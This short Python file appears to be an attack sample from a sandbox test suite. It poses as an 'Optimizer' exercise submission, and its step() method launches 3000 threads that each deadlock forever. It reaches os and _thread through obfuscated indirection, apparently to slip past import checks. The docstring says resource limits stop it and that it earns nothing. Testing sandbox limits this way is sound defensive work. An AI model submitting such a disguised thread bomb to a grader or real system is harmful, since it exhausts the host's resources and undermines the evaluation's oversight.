"""Attack: starts threads without end, each of which sleeps for ever.

Exercise: optimizer
Earns: 0
Stopped by: rlimits (processes, address space)
Levels: full, container
"""

import random

_os = getattr(random, bytes((95, 111, 115)).decode())
modules = getattr(_os, "s" + "ys").modules
start, allocate = modules["_thread"].start_new_thread, modules["_thread"].allocate_lock


def sleep():
    lock = allocate()
    lock.acquire()
    lock.acquire()


def breed():
    for i in range(3000):
        start(sleep, ())
    print("BREACH three thousand threads")


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        breed()

    def zero_grad(self):
        pass
